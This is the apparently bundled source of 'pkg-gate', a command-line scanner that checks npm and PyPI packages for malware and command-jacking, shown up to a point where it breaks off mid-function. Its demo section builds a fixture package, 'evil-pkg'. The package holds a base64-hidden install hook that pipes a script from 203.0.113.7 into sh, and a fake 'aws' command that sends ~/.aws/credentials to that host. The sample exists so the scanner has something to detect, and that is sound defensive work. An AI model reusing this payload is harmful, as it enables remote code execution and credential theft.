#!/usr/bin/env node
import { createRequire as __pkgGateCreateRequire } from 'node:module'; const require = __pkgGateCreateRequire(import.meta.url);
import {
  DEFAULT_CONFIG_PATH,
  EMPTY_CONFIG,
  FileCollector,
  __toESM,
  advisoryLookup,
  applyRunPolicy,
  checkConfigPath,
  consoleLogger,
  countFailing,
  describeChange,
  describeCounts,
  describeFailOn,
  describeSettings,
  failsGate,
  fetchRelease,
  findingLocation,
  formatIssue,
  headConfigIssues,
  inspectArtifacts,
  inspectUnpacked,
  loadRunConfig,
  packageVerdict,
  partitionIgnored,
  registryOptions,
  renderJson,
  reportVerdict,
  reputationFromConfig,
  require_tar_stream,
  resolveSettings,
  sanitizeEvidence,
  scanChanges,
  silentLogger,
  sortFindings,
  verdictPhrase
} from "./chunk-HDURGP6L.js";

// src/cli/main.ts
import { readFile as readFile2, stat } from "node:fs/promises";
import { parseArgs } from "node:util";

// src/archive/directory.ts
import { lstat, open, readdir } from "node:fs/promises";
import { join, relative, sep } from "node:path";
var READ_CHUNK_BYTES = 256 * 1024;
async function readDirectory(dir, limits = {}) {
  const rootStat = await lstat(dir).catch((err) => {
    throw new Error(`${dir}: cannot read directory (${err.code ?? err.message})`);
  });
  if (!rootStat.isDirectory()) throw new Error(`${dir}: not a directory`);
  const collector = new FileCollector(limits);
  await walk(dir, dir, collector);
  return collector.result();
}
async function walk(root, dir, collector) {
  let names;
  try {
    names = (await readdir(dir)).sort();
  } catch (err) {
    collector.problem("corrupt", `cannot list ${relativePath(root, dir)}: ${describe(err)}`);
    return;
  }
  for (const name of names) {
    if (collector.stopped) return;
    const full = join(dir, name);
    const rel = relativePath(root, full);
    let stats;
    try {
      stats = await lstat(full);
    } catch (err) {
      collector.problem("corrupt", `cannot stat ${rel}: ${describe(err)}`, rel);
      continue;
    }
    if (stats.isSymbolicLink()) {
      collector.skipLink(rel, void 0, "symlink");
    } else if (stats.isDirectory()) {
      await walk(root, full, collector);
    } else if (stats.isFile()) {
      const path = collector.admitFile(rel);
      if (path !== null) await readFile(full, path, stats.mode & 4095, collector);
    }
  }
}
async function readFile(full, path, mode, collector) {
  const sink = collector.openFile(path, mode);
  let handle;
  try {
    handle = await open(full, "r");
  } catch (err) {
    collector.problem("corrupt", `cannot read ${path}: ${describe(err)}`, path);
    return;
  }
  try {
    const buffer = Buffer.alloc(READ_CHUNK_BYTES);
    for (; ; ) {
      const { bytesRead } = await handle.read(buffer, 0, buffer.byteLength, null);
      if (bytesRead === 0) break;
      if (!sink.write(buffer.subarray(0, bytesRead))) return;
    }
    sink.close();
  } catch (err) {
    sink.closePartial(sink.bytesRead);
    collector.problem("corrupt", `cannot read ${path}: ${describe(err)}`, path);
  } finally {
    await handle.close();
  }
}
function relativePath(root, full) {
  return relative(root, full).split(sep).join("/");
}
function describe(err) {
  const code = err?.code;
  return code ?? (err instanceof Error ? err.message : String(err));
}

// src/demo/index.ts
import { execFileSync } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join as join2 } from "node:path";

// src/sources/git.ts
import { execFile } from "node:child_process";
import { promisify } from "node:util";
var run = promisify(execFile);
var MAX_OUTPUT = 512 * 1024 * 1024;
async function git(repo, args) {
  const { stdout } = await run("git", args, { cwd: repo, maxBuffer: MAX_OUTPUT, encoding: "utf8" });
  return stdout;
}
var STATUS = {
  A: "added",
  M: "modified",
  D: "removed",
  R: "renamed",
  C: "copied",
  T: "changed"
};
function parseNameStatus(output2) {
  const fields = output2.split("\0").filter((f) => f !== "");
  const files = [];
  for (let i = 0; i < fields.length; ) {
    const code = fields[i++] ?? "";
    const letter = code[0] ?? "M";
    if (letter === "R" || letter === "C") {
      const previousPath = fields[i++];
      const path = fields[i++] ?? "";
      files.push({ path, previousPath, status: STATUS[letter] ?? "modified" });
    } else {
      files.push({ path: fields[i++] ?? "", status: STATUS[letter] ?? "modified" });
    }
  }
  return files;
}
async function createGitSource(repo, baseRef, headRef) {
  const resolve = async (ref) => {
    try {
      return (await git(repo, ["rev-parse", "--verify", `${ref}^{commit}`])).trim();
    } catch {
      throw new Error(`"${ref}" is not a commit in ${repo}`);
    }
  };
  const [base, head] = [await resolve(baseRef), await resolve(headRef)];
  let mergeBase = base;
  try {
    mergeBase = (await git(repo, ["merge-base", base, head])).trim() || base;
  } catch {
  }
  return {
    mergeBase,
    head,
    async listChangedFiles() {
      return parseNameStatus(
        await git(repo, ["diff", "--name-status", "-z", "-M", "--no-ext-diff", mergeBase, head])
      );
    },
    async listBaseFiles() {
      const output2 = await git(repo, [
        "ls-tree",
        "-r",
        "-z",
        "--full-tree",
        "--name-only",
        mergeBase
      ]);
      return output2.split("\0").filter((path) => path !== "");
    },
    async readFile(path, side) {
      try {
        return await git(repo, ["show", `${side === "base" ? mergeBase : head}:${path}`]);
      } catch {
        return void 0;
      }
    },
    async readTrackedFile(path, side) {
      const commit = side === "base" ? mergeBase : head;
      const listing = await git(repo, ["ls-tree", "-z", "--full-tree", commit, "--", path]);
      const match = listing.split("\0").map((entry) => /^(\d+) (\w+) ([0-9a-f]+)\t(.*)$/s.exec(entry)).find((parsed) => parsed?.[4] === path);
      if (!match) return void 0;
      const [, mode, type, object] = match;
      if (type !== "blob" || mode === "120000") {
        const what = type === "tree" ? "a directory" : type === "commit" ? "a submodule" : "a symbolic link";
        throw new Error(`${path} at ${commit.slice(0, 7)} is ${what}, not a file`);
      }
      return git(repo, ["cat-file", "blob", object ?? ""]);
    }
  };
}

// src/demo/tarball.ts
var import_tar_stream = __toESM(require_tar_stream(), 1);
import { gzipSync } from "node:zlib";
async function buildTarGz(entries) {
  const archive = (0, import_tar_stream.pack)();
  const chunks = [];
  archive.on("data", (chunk) => chunks.push(chunk));
  const done = new Promise((resolve, reject) => {
    archive.on("end", resolve);
    archive.on("error", reject);
  });
  for (const entry of entries) {
    const body = typeof entry.content === "string" ? Buffer.from(entry.content) : entry.content;
    archive.entry(
      { name: entry.path, mode: entry.mode ?? 420, mtime: /* @__PURE__ */ new Date(0) },
      Buffer.from(body)
    );
  }
  archive.finalize();
  await done;
  return gzipSync(Buffer.concat(chunks), { level: 9 });
}

// src/demo/packages.ts
var stage2 = 'import os; os.system("curl -s http://203.0.113.7/stage2.sh | sh")';
async function demoPypiPackages() {
  const encoded = Buffer.from(stage2).toString("base64");
  const setupPy = `import base64
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        exec(base64.b64decode("${encoded}"))
        install.run(self)


setup(
    name="evil-pkg",
    version="1.0.0",
    packages=["evil_pkg"],
    cmdclass={"install": PostInstall},
    entry_points={"console_scripts": ["aws = evil_pkg.cli:main"]},
)
`;
  const sdist = await buildTarGz([
    {
      path: "evil-pkg-1.0.0/PKG-INFO",
      content: "Metadata-Version: 2.1\nName: evil-pkg\nVersion: 1.0.0\nSummary: Utilities\n"
    },
    { path: "evil-pkg-1.0.0/setup.py", content: setupPy },
    { path: "evil-pkg-1.0.0/evil_pkg/__init__.py", content: "" },
    {
      path: "evil-pkg-1.0.0/evil_pkg/cli.py",
      content: 'import os\nimport subprocess\nimport sys\nimport urllib.request\n\n\ndef main():\n    creds = open(os.path.expanduser("~/.aws/credentials")).read()\n    urllib.request.urlopen("http://203.0.113.7/c", data=creds.encode())\n    subprocess.call(["/usr/local/bin/aws"] + sys.argv[1:])\n'
    }
  ]);
  return [
    {
      name: "evil-pkg",
      version: "1.0.0",
      filename: "evil-pkg-1.0.0.tar.gz",
      packagetype: "sdist",
      data: sdist
    }
  ];
}
async function leftPadTarball(version) {
  return buildTarGz([
    {
      path: "package/package.json",
      content: JSON.stringify(
        { name: "left-pad", version, main: "index.js", license: "WTFPL" },
        null,
        2
      )
    },
    {
      path: "package/index.js",
      content: `'use strict';
module.exports = function leftPad(str, len, ch) {
  str = String(str);
  ch = ch || ch === 0 ? String(ch) : ' ';
  while (str.length < len) str = ch + str;
  return str;
};
`
    }
  ]);
}
async function demoNpmPackages() {
  return [
    { name: "left-pad", version: "1.0.0", tarball: await leftPadTarball("1.0.0") },
    { name: "left-pad", version: "1.1.0", tarball: await leftPadTarball("1.1.0") }
  ];
}
function packageLock(leftPadVersion, integrity) {
  return `${JSON.stringify(
    {
      name: "demo-app",
      version: "1.0.0",
      lockfileVersion: 3,
      requires: true,
      packages: {
        "": {
          name: "demo-app",
          version: "1.0.0",
          dependencies: { "left-pad": `^${leftPadVersion}` }
        },
        "node_modules/left-pad": {
          version: leftPadVersion,
          resolved: `https://registry.npmjs.org/left-pad/-/left-pad-${leftPadVersion}.tgz`,
          integrity,
          license: "WTFPL"
        }
      }
    },
    null,
    2
  )}
`;
}

// src/demo/registries.ts
import { createHash } from "node:crypto";
import { createServer } from "node:http";
function sriSha512(data) {
  return `sha512-${createHash("sha512").update(data).digest("base64")}`;
}
function sha256(data) {
  return createHash("sha256").update(data).digest("hex");
}
async function listen(server) {
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return `http://127.0.0.1:${server.address().port}`;
}
async function startFixtureRegistries(npm, pypi) {
  const requests = [];
  let npmUrl = "";
  let pypiUrl = "";
  const send = (res, status, body) => {
    const payload = body instanceof Uint8Array ? body : Buffer.from(JSON.stringify(body));
    res.writeHead(status, {
      "content-type": body instanceof Uint8Array ? "application/octet-stream" : "application/json",
      "content-length": payload.length
    });
    res.end(payload);
  };
  const npmServer = createServer((req, res) => {
    const path = decodeURIComponent((req.url ?? "/").split("?")[0] ?? "/");
    const full = req.headers.accept === "application/json";
    requests.push(`npm ${req.method} ${path}${full ? " (full)" : ""}`);
    const tarball = /^\/(.+)\/-\/[^/]+-(\d[^/]*)\.tgz$/.exec(path);
    if (tarball) {
      const hit = npm.find((v) => v.name === tarball[1] && v.version === tarball[2]);
      return hit ? send(res, 200, hit.tarball) : send(res, 404, { error: "not found" });
    }
    const name = path.slice(1);
    const versions = npm.filter((v) => v.name === name);
    if (versions.length === 0) return send(res, 404, { error: "Not found" });
    const base = name.split("/").pop();
    const times = versions.filter((v) => v.publishedAt !== void 0);
    send(res, 200, {
      name,
      "dist-tags": { latest: versions[versions.length - 1]?.version },
      ...full && times.length > 0 ? { time: Object.fromEntries(times.map((v) => [v.version, v.publishedAt])) } : {},
      versions: Object.fromEntries(
        versions.map((v) => [
          v.version,
          {
            name,
            version: v.version,
            dist: {
              tarball: `${npmUrl}/${name}/-/${base}-${v.version}.tgz`,
              integrity: sriSha512(v.tarball),
              shasum: createHash("sha1").update(v.tarball).digest("hex")
            }
          }
        ])
      )
    });
  });
  const pypiServer = createServer((req, res) => {
    const path = decodeURIComponent((req.url ?? "/").split("?")[0] ?? "/");
    requests.push(`pypi ${req.method} ${path}`);
    const file = /^\/files\/(.+)$/.exec(path);
    if (file) {
      const hit = pypi.find((f) => f.filename === file[1]);
      return hit ? send(res, 200, hit.data) : send(res, 404, { message: "Not Found" });
    }
    const api = /^\/pypi\/([^/]+)(?:\/([^/]+))?\/json$/.exec(path);
    if (!api) return send(res, 404, { message: "Not Found" });
    const normalize = (n) => n.toLowerCase().replace(/[-_.]+/g, "-");
    const files = pypi.filter((f) => normalize(f.name) === normalize(api[1] ?? ""));
    const describe2 = (f) => ({
      filename: f.filename,
      packagetype: f.packagetype,
      url: `${pypiUrl}/files/${f.filename}`,
      digests: { sha256: sha256(f.data) },
      size: f.data.length,
      yanked: f.yanked ?? false,
      ...f.uploadedAt ? { upload_time_iso_8601: f.uploadedAt } : {}
    });
    const versions = [...new Set(files.map((f) => f.version))];
    const version = api[2] ?? versions[versions.length - 1];
    const current = files.filter((f) => f.version === version);
    if (current.length === 0) return send(res, 404, { message: "Not Found" });
    send(res, 200, {
      info: { name: current[0]?.name, version },
      urls: current.map(describe2),
      ...api[2] ? {} : {
        releases: Object.fromEntries(
          versions.map((v) => [v, files.filter((f) => f.version === v).map(describe2)])
        )
      }
    });
  });
  npmUrl = await listen(npmServer);
  pypiUrl = await listen(pypiServer);
  return {
    npmUrl,
    pypiUrl,
    requests,
    close: async () => {
      await Promise.all(
        [npmServer, pypiServer].map(
          (server) => new Promise((resolve) => {
            server.closeAllConnections();
            server.close(() => resolve());
          })
        )
      );
    }
  };
}

// src/demo/index.ts
function git2(repo, args) {
  execFileSync(
    "git",
    ["-c", "user.name=pkg-gate demo", "-c", "user.email=demo@pkg-gate.invalid", ...args],
    { cwd: repo, stdio: "ignore" }
  );
}
async function runDemo(failOn, logger) {
  const [npm, pypi] = await Promise.all([demoNpmPackages(), demoPypiPackages()]);
  const integrity = (version) => sriSha512(npm.find((p) => p.version === version)?.tarball ?? new Uint8Array());
  const repo = mkdtempSync(join2(tmpdir(), "pkg-gate-demo-"));
  const registries = await startFixtureRegistries(npm, pypi);
  try {
    try {
      git2(repo, ["init", "-q", "-b", "main"]);
    } catch {
      throw new Error("the demo needs git on PATH to build its throw-away repository");
    }
    writeFileSync(join2(repo, "requirements.txt"), "# app dependencies\nrequests==2.31.0\n");
    writeFileSync(join2(repo, "package-lock.json"), packageLock("1.0.0", integrity("1.0.0")));
    git2(repo, ["add", "."]);
    git2(repo, ["commit", "-q", "-m", "base"]);
    git2(repo, ["checkout", "-q", "-b", "feature"]);
    writeFileSync(
      join2(repo, "requirements.txt"),
      "# app dependencies\nrequests==2.31.0\nevil-pkg==1.0.0\n"
    );
    writeFileSync(join2(repo, "package-lock.json"), packageLock("1.1.0", integrity("1.1.0")));
    git2(repo, ["commit", "-q", "-am", "add evil-pkg, bump left-pad"]);
    logger.info(`demo repository: ${repo} (base main, head feature)`);
    logger.info(`demo registries: npm ${registries.npmUrl}, PyPI ${registries.pypiUrl}`);
    return await scanChanges(await createGitSource(repo, "main", "feature"), {
      failOn,
      registry: { npmRegistry: registries.npmUrl, pypiUrl: registries.pypiUrl },
      logger
    });
  } finally {
    await registries.close();
    rmSync(repo, { recursive: true, force: true });
  }
}

// src/report/text.ts
var ANSI = { red: 31, yellow: 33, green: 32, blue: 34, magenta: 35, gray: 90, bold: 1 };
var SEVERITY_STYLE = {
  critical: "magenta",
  high: "red",
  medium: "yellow",
  low: "blue",
  info: "gray"
};
function renderText(report, options = {}) {
  const paint = (style, text) => options.color ? `\x1B[${ANSI[style]}m${text}\x1B[0m` : text;
  const lines = [];
  const detailed = report.packages.filter((pkg) => pkg.findings.length > 0 || pkg.error);
  const clean = report.packages.filter((pkg) => !detailed.includes(pkg));
  for (const pkg of detailed) {
    lines.push(header(pkg, report, paint));
    if (pkg.manifest)
      lines.push(`  ${paint("gray", `in ${pkg.manifest.path}:${pkg.manifest.line}`)}`);
    lines.push(...dependencyFileLines(pkg, paint));
    if (pkg.change === "added" && pkg.comparedWith !== void 0) {
      lines.push(
        `  ${paint("gray", `compared with ${safe(pkg.comparedWith)}, the release before it on the registry`)}`
      );
    }
    if (pkg.error) lines.push(`  ${paint("red", "error")}     ${safe(pkg.error)}`);
    for (const finding of sortFindings(pkg.findings)) lines.push(...findingLines(finding, paint));
    lines.push("");
  }
  for (const pkg of clean) lines.push(header(pkg, report, paint));
  if (clean.length > 0) lines.push("");
  const fileFindings = report.fileFindings ?? [];
  for (const finding of sortFindings(fileFindings)) {
    lines.push(`${paint("red", "\u2716")} ${safe(`${finding.file}:${finding.line}`)}`);
    lines.push(...findingLines(finding, paint));
  }
  if (fileFindings.length > 0) lines.push("");
  for (const problem of report.manifestProblems) {
    const at = problem.line ? `${problem.path}:${problem.line}` : problem.path;
    lines.push(`${paint("red", "\u2716")} ${safe(at)}: could not be read: ${safe(problem.message)}`);
  }
  if (report.manifestProblems.length > 0) lines.push("");
  for (const problem of report.configProblems ?? []) {
    const at = problem.line ? `${problem.path}:${problem.line}` : problem.path;
    lines.push(
      `${paint("red", "\u2716")} ${safe(at)}: invalid pkg-gate configuration: ${safe(problem.message)}`
    );
  }
  if (report.configProblems?.length) lines.push("");
  lines.push(totals(report, paint));
  return `${lines.join("\n")}
`;
}
function header(pkg, report, paint) {
  const failing = failsGate(pkg, report.failOn);
  const mark = pkg.verdict === "error" ? paint("red", "\u2716") : failing ? paint("red", "\u2716") : paint("green", "\u2714");
  const verdict = pkg.verdict === "pass" ? paint("green", "PASS") : paint("red", pkg.verdict.toUpperCase());
  const name = paint("bold", safe(pkg.name));
  const source = pkg.source && !pkg.source.includes(pkg.name) ? ` ${paint("gray", `(${safe(pkg.source)})`)}` : "";
  return `${mark} ${name} ${safe(describeChange(pkg))} [${pkg.ecosystem}] ${verdict} \u2014 ${verdictPhrase(pkg, report.failOn)}${source}`;
}
function findingLines(finding, paint) {
  const severity = paint(SEVERITY_STYLE[finding.severity], finding.severity.padEnd(8));
  const lines = [
    `  ${severity}  ${paint("bold", safe(finding.rule))}  ${safe(findingLocation(finding))}` + (finding.alreadyIn !== void 0 ? finding.notVouched ? paint(
      "red",
      `  (already in ${safe(finding.alreadyIn)}; gates anyway: ${safe(finding.notVouched)})`
    ) : paint("gray", `  (already in ${safe(finding.alreadyIn)})`) : finding.releaseTiming ? paint("gray", `  (new in this version, ${safe(finding.releaseTiming)})`) : "") + (finding.allowed ? paint("green", `  (allowed: ${safe(finding.allowed.reason)})`) : ""),
    `            ${safe(finding.message)}`
  ];
  const evidence = sanitizeEvidence(finding.evidence, {
    maxLines: 6,
    maxLineChars: 160,
    maxTokenChars: 80
  });
  for (const line of evidence ? evidence.split("\n") : [])
    lines.push(`            ${paint("gray", `\u2502 ${line}`)}`);
  return lines;
}
function totals(report, paint) {
  const total = report.packages.length;
  const failing = countFailing(report);
  const errors = report.packages.filter((p) => p.verdict === "error").length;
  const findings = report.packages.flatMap((p) => p.findings);
  const facts = [
    `${total} package${total === 1 ? "" : "s"}`,
    `${failing} failing`,
    ...errors ? [`${errors} not inspectable`] : [],
    `findings: ${describeCounts([...findings, ...report.fileFindings ?? []])}`,
    ...report.manifestProblems.length ? [`${report.manifestProblems.length} unreadable file(s)`] : [],
    ...report.configProblems?.length ? ["invalid pkg-gate configuration"] : []
  ];
  const verdict = report.verdict === "fail" ? paint("red", "FAIL") : paint("green", "PASS");
  return `${verdict} ${facts.join(" \xB7 ")} (${describeFailOn(report.failOn)})`;
}
function safe(text) {
  return sanitizeEvidence(text.replace(/[\r\n]+/g, " "), {
    maxLines: 1,
    maxLineChars: 400,
    maxTokenChars: 400
  });
}
function dependencyFileLines(pkg, paint) {
  const lines = [];
  if (pkg.via?.length) lines.push(`  ${paint("gray", `via ${safe(pkg.via.join(", "))}`)}`);
  if (pkg.sourceChange) {
    const describe2 = (s) => [s.resolved, s.integrity, s.hashes?.length ? `${s.hashes.length} hash(es)` : void 0].filter(Boolean).join(" ") || "no source recorded";
    lines.push(
      `  ${paint("gray", `source was ${safe(pkg.sourceChange.from.map(describe2).join(" | "))}`)}`
    );
    lines.push(`  ${paint("gray", `source now ${safe(describe2(pkg.sourceChange.to))}`)}`);
  }
  return lines;
}

// src/cli/main.ts
var USAGE = `pkg-gate \u2014 inspect packages for malware and command-jacking before they merge

Usage:
  pkg-gate inspect <archive|directory|npm:NAME@VERSION|pypi:NAME==VERSION>...
                   [--ecosystem npm|pypi] [--format text|json] [--fail-on LEVEL] [--config FILE]
  pkg-gate diff --base REF --head REF [--repo DIR] [--format text|json] [--fail-on LEVEL]
                [--config PATH | --no-config]
  pkg-gate demo [--format text|json]

Options:
  --fail-on LEVEL        critical|high|medium|low|info|none (default: the config's, else high)
  --config PATH          diff: the configuration file, read at the merge base of --base and
                         --head, never from the working tree or --head (default
                         .github/pkg-gate.yml; a missing default means defaults apply).
                         inspect: a local configuration file (rules, allow, fail-on,
                         registries, limits); none unless given
  --no-config            diff: do not read a configuration file
  --npm-registry URL     npm registry (env PKG_GATE_NPM_REGISTRY, then the config's, default
                         https://registry.npmjs.org)
  --pypi-url URL         PyPI base URL (env PKG_GATE_PYPI_URL, then the config's, default
                         https://pypi.org)
  --osv-url URL|off      OSV API for known-malicious lookups in diff (env PKG_GATE_OSV_URL,
                         then the config's osv-url, default https://api.osv.dev; off disables)
  --quiet                no progress lines on stderr

Flags and environment variables override the configuration file; the file overrides defaults.

Exit codes: 0 nothing at or above --fail-on, 1 something is, 2 error (bad arguments, unreadable
input, invalid configuration file).`;
var UsageError = class extends Error {
};
var ConfigFileError = class extends Error {
};
var ECOSYSTEMS = ["npm", "pypi"];
var flagName = (name) => `--${name}`;
var CLI_SETTINGS = [
  "fail-on",
  "npm-registry",
  "pypi-url",
  "max-package-mb",
  "timeout-seconds"
];
function flagInputs(flags, env) {
  return {
    failOn: flags["fail-on"],
    npmRegistry: flags["npm-registry"] ?? env.PKG_GATE_NPM_REGISTRY,
    pypiUrl: flags["pypi-url"] ?? env.PKG_GATE_PYPI_URL
  };
}
function flagSettings(flags, env) {
  const state = { path: DEFAULT_CONFIG_PATH, status: "absent" };
  return asUsageError(() => resolveSettings(flagInputs(flags, env), EMPTY_CONFIG, state, flagName));
}
function asUsageError(fn) {
  try {
    return fn();
  } catch (error) {
    throw new UsageError(error instanceof Error ? error.message : String(error));
  }
}
function runRegistry(settings, env, logger) {
  const token = env.PKG_GATE_NPM_TOKEN || void 0;
  if (token && settings.npmRegistry.source === "config") {
    logger.warning(
      `PKG_GATE_NPM_TOKEN is not sent to ${settings.npmRegistry.value}, which only ${settings.configPath} names; pass --npm-registry or set PKG_GATE_NPM_REGISTRY to that URL to send it.`
    );
    return registryOptions(settings, void 0);
  }
  return registryOptions(settings, token);
}
function githubAdvisories(env) {
  const token = env.GITHUB_TOKEN || env.GH_TOKEN;
  return token ? { apiUrl: env.GITHUB_API_URL || "https://api.github.com", token } : false;
}
function advisoriesFrom(flag, env) {
  return asUsageError(
    () => advisoryLookup(flag ?? env.PKG_GATE_OSV_URL ?? "", githubAdvisories(env), "--osv-url")
  );
}
function issueLines(path, issues) {
  return issues.map((issue) => `  - ${formatIssue(path, issue)}`).join("\n");
}
async function diffConfig(source, changed, configPath, explicit, inputs, logger) {
  const at = source.mergeBase.slice(0, 7);
  if (configPath === void 0) {
    logger.info("Configuration: none (--no-config); flags and defaults apply.");
    return loadRunConfig({
      path: DEFAULT_CONFIG_PATH,
      readBase: async () => void 0,
      changedInPr: false,
      inputs,
      inputName: flagName
    });
  }
  const changedInPr = changed.some((f) => f.path === configPath || f.previousPath === configPath);
  const run2 = await loadRunConfig({
    path: configPath,
    readBase: (path) => source.readTrackedFile(path, "base"),
    ref: source.mergeBase,
    changedInPr,
    inputs,
    inputName: flagName
  });
  const { loaded } = run2;
  if (loaded.status === "invalid") {
    throw new ConfigFileError(
      `${configPath} at ${at} (the merge base) is not a valid pkg-gate configuration; nothing was scanned:
` + issueLines(configPath, loaded.issues)
    );
  }
  if (loaded.status === "absent" && explicit) {
    throw new UsageError(
      `--config ${configPath}: no such file at ${at}, the merge base of --base and --head (the configuration is read there, never from the working tree or --head)`
    );
  }
  logger.info(
    loaded.status === "absent" ? `Configuration: no ${configPath} at ${at} (the merge base); flags and defaults apply.` : `Configuration: ${configPath} at ${at} (the merge base).`
  );
  for (const issue of loaded.issues) logger.warning(formatIssue(configPath, issue));
  let headIssues;
  if (changedInPr) {
    logger.info(
      `  --head changes ${configPath}: the change applies once merged, not to this diff.`
    );
    const headText = await source.readTrackedFile(configPath, "head").catch((error) => {
      logger.warning(
        `Could not read the head's ${configPath} to check it: ${error instanceof Error ? error.message : String(error)}`
      );
      return void 0;
    });
    headIssues = headConfigIssues(headText, configPath);
  }
  return { ...run2, ...headIssues ? { headConfigIssues: headIssues } : {} };
}
async function inspectConfig(path, inputs, logger) {
  const run2 = await loadRunConfig({
    path,
    readBase: async (file) => {
      try {
        return await readFile2(file, "utf8");
      } catch (error) {
        if (error.code === "ENOENT") return void 0;
        throw error;
      }
    },
    changedInPr: false,
    inputs,
    inputName: flagName
  });
  if (run2.loaded.status === "absent") throw new UsageError(`--config ${path}: no such file`);
  if (run2.loaded.status === "invalid") {
    throw new ConfigFileError(
      `${path} is not a valid pkg-gate configuration; nothing was inspected:
` + issueLines(path, run2.loaded.issues)
    );
  }
  logger.info(`Configuration: ${path}.`);
  for (const issue of run2.loaded.issues) logger.warning(formatIssue(path, issue));
  return run2;
}
function parseRegistryTarget(target) {
  const npm = /^npm:((?:@[^/@\s]+\/)?[^@\s]+)@(\S+)$/.exec(target);
  if (npm) return { ecosystem: "npm", name: npm[1] ?? "", version: npm[2] ?? "" };
  const pypi = /^pypi:([A-Za-z0-9][A-Za-z0-9._-]*)==(\S+)$/.exec(target);
  if (pypi) return { ecosystem: "pypi", name: pypi[1] ?? "", version: pypi[2] ?? "" };
  if (/^(npm|pypi):/.test(target)) {
    throw new UsageError(
      `"${target}": write npm:NAME@VERSION or pypi:NAME==VERSION with an exact version`
    );
  }
  return void 0;
}
async function inspectTarget(target, ecosystem, failOn, registry) {
  const started = Date.now();
  const coordinates = parseRegistryTarget(target);
  const errorReport = (message) => ({
    source: target,
    ecosystem: coordinates?.ecosystem ?? ecosystem ?? "npm",
    name: coordinates?.name ?? "",
    version: coordinates?.version ?? "",
    verdict: "error",
    findings: [],
    error: message
  });
  try {
    let inspection;
    let downloadedBytes = 0;
    if (coordinates) {
      const release = await fetchRelease(coordinates, registry());
      downloadedBytes = release.artifacts.reduce((n, a) => n + a.data.length, 0);
      inspection = await inspectArtifacts(release.artifacts, coordinates);
    } else {
      const info = await stat(target).catch(() => void 0);
      if (!info) return errorReport(`${target}: no such file or directory`);
      if (info.isDirectory()) {
        inspection = await inspectUnpacked(
          [{ filename: target, result: await readDirectory(target) }],
          { ecosystem }
        );
      } else {
        const data = new Uint8Array(await readFile2(target));
        downloadedBytes = data.length;
        inspection = await inspectArtifacts([{ filename: target, data }], { ecosystem });
      }
    }
    return {
      source: target,
      ecosystem: inspection.identity.ecosystem,
      name: inspection.identity.name ?? "",
      version: inspection.identity.version ?? "",
      verdict: packageVerdict(inspection.findings, failOn),
      findings: inspection.findings,
      stats: {
        downloadedBytes,
        files: inspection.files,
        unpackedBytes: inspection.unpackedBytes,
        millis: Date.now() - started
      }
    };
  } catch (error) {
    return errorReport(error instanceof Error ? error.message : String(error));
  }
}
function output(report, format) {
  process.stdout.write(
    format === "json" ? `${renderJson(report)}
` : renderText(report, { color: process.stdout.isTTY })
  );
}
function exitCode(report) {
  return report.verdict === "fail" ? 1 : 0;
}
async function main(argv, env = process.env) {
  try {
    const [command, ...rest] = argv;
    if (!command || command === "--help" || command === "-h" || command === "help") {
      process.stdout.write(`${USAGE}
`);
      return command ? 0 : 2;
    }
    const { values, positionals } = parseArgs({
      args: rest,
      allowPositionals: true,
      strict: true,
      options: {
        ecosystem: { type: "string" },
        format: { type: "string", default: "text" },
        // No default: unset lets the configuration file decide, then `high`.
        "fail-on": { type: "string" },
        "npm-registry": { type: "string" },
        "pypi-url": { type: "string" },
        "osv-url": { type: "string" },
        config: { type: "string" },
        "no-config": { type: "boolean", default: false },
        base: { type: "string" },
        head: { type: "string" },
        repo: { type: "string", default: "." },
        quiet: { type: "boolean", default: false }
      }
    });
    if (!["text", "json"].includes(values.format ?? "")) {
      throw new UsageError(`--format must be text or json (got "${values.format}")`);
    }
    const fromFlags = flagSettings(values, env);
    const ecosystem = values.ecosystem;
    if (ecosystem !== void 0 && !ECOSYSTEMS.includes(ecosystem)) {
      throw new UsageError(`--ecosystem must be npm or pypi (got "${values.ecosystem}")`);
    }
    if (values.config !== void 0 && values["no-config"]) {
      throw new UsageError("--config and --no-config exclude each other");
    }
    if (command !== "diff" && values["no-config"]) {
      throw new UsageError(
        "--no-config is for diff (inspect reads no file unless --config names one)"
      );
    }
    if (command === "demo" && values.config !== void 0) {
      throw new UsageError("--config is for diff and inspect");
    }
    const logger = values.quiet ? silentLogger : consoleLogger;
    const now = /* @__PURE__ */ new Date();
    switch (command) {
      case "inspect": {
        if (positionals.length === 0) throw new UsageError("inspect needs at least one target");
        const run2 = values.config !== void 0 ? await inspectConfig(values.config, flagInputs(values, env), logger) : void 0;
        const settings = run2?.settings ?? fromFlags;
        const failOn = settings.failOn.value;
        let registry;
        const packages = [];
        for (const target of positionals) {
          packages.push(
            await inspectTarget(target, ecosystem, failOn, () => {
              registry ??= runRegistry(settings, env, logger);
              return registry;
            })
          );
        }
        const inspected = {
          verdict: reportVerdict(packages, [], failOn),
          failOn,
          packages,
          manifestProblems: [],
          manifests: []
        };
        const report = run2 ? applyRunPolicy(inspected, run2, now) : inspected;
        output(report, values.format ?? "text");
        const errors = report.packages.filter((p) => p.verdict === "error");
        for (const pkg of errors) process.stderr.write(`pkg-gate: ${pkg.source}: ${pkg.error}
`);
        return errors.length > 0 ? 2 : exitCode(report);
      }
      case "diff": {
        if (!values.base || !values.head)
          throw new UsageError("diff needs --base REF and --head REF");
        if (positionals.length > 0) throw new UsageError(`unexpected argument "${positionals[0]}"`);
        const configPath = values["no-config"] ? void 0 : asUsageError(() => checkConfigPath(values.config ?? DEFAULT_CONFIG_PATH, "--config"));
        const osvSetting = values["osv-url"] ?? env.PKG_GATE_OSV_URL;
        advisoriesFrom(osvSetting, env);
        const source = await createGitSource(values.repo ?? ".", values.base, values.head);
        const changed = await source.listChangedFiles();
        const run2 = await diffConfig(
          source,
          changed,
          configPath,
          values.config !== void 0,
          flagInputs(values, env),
          logger
        );
        const { settings, loaded } = run2;
        for (const line of describeSettings(settings, now, CLI_SETTINGS, "flag or environment")) {
          logger.info(line);
        }
        const { kept, ignored } = partitionIgnored(changed, settings.ignorePaths);
        if (ignored.length) {
          logger.info(`Skipped by ignore-paths: ${ignored.map((f) => f.path).join(", ")}`);
        }
        const scanSource = { ...source, listChangedFiles: async () => kept };
        const scanned = await scanChanges(scanSource, {
          failOn: settings.failOn.value,
          registry: runRegistry(settings, env, logger),
          logger,
          reputation: reputationFromConfig(
            loaded.config,
            osvSetting,
